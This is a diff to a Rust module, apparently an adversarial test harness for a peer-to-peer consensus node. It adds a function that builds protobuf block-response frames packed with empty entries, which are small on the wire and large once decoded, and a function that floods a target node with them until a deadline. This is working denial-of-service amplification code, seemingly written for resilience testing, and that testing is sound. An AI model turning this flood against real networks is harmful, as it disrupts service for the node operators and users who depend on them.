@@ -6,6 +6,8 @@
 //!   3 MiB (a vote frame is at most 2 KiB);
 //! - [`BadFrame::Truncated`] — a proposal announced at 64 KiB, 1 KiB of it
 //!   sent, then the stream finished;
+//! - [`amplifying_frames`] — block responses that fill a maximal frame
+//!   with empty entries (2 bytes each on the wire, hundreds once decoded);
 //! - [`stream_flood`] — every stream the node allows, each announcing a
 //!   4 MiB proposal and sending as much of it as flow control lets
 //!   through, none ever finished.
@@ -143,4 +145,47 @@ pub async fn stream_flood(
     record_close(&peer, &mut report);
     peer.conn.close(0u32.into(), b"done");
     Ok(report)
+}
+
+/// The field key of `PeerMessage.block_response` (field 7, length-delimited).
+const BLOCK_RESPONSE_KEY: u8 = 7 << 3 | 2;
+
+/// A block-response frame of `bytes` body bytes holding nothing but empty
+/// `CertifiedBlock` entries (`0a 00` each): valid protobuf, a million
+/// entries in 2 MiB, each a few hundred bytes once decoded.
+pub fn amplifying_frame(bytes: usize) -> Vec<u8> {
+    let entries = (bytes.saturating_sub(8)) / 2;
+    let inner_len = entries * 2;
+    let mut body = vec![BLOCK_RESPONSE_KEY];
+    let mut n = inner_len as u64;
+    while n >= 0x80 {
+        body.push((n as u8 & 0x7f) | 0x80);
+        n >>= 7;
+    }
+    body.push(n as u8);
+    for _ in 0..entries {
+        body.extend_from_slice(&[0x0a, 0x00]);
+    }
+    let mut frame = (body.len() as u32).to_be_bytes().to_vec();
+    frame.extend(body);
+    frame
+}
+
+/// Sends amplifying block responses of `bytes` each, about `per_sec` a
+/// second, on connection after connection, until `deadline`.
+pub async fn amplifying_frames(
+    target: &Target,
+    bytes: usize,
+    deadline: Instant,
+    per_sec: u64,
+) -> Result<Report, AttackError> {
+    let frame = amplifying_frame(bytes);
+    super::flood::flood(
+        target,
+        deadline,
+        super::flood::Pace::per_sec(per_sec),
+        |_| Ok(None),
+        |_, _| frame.clone(),
+    )
+    .await
 }
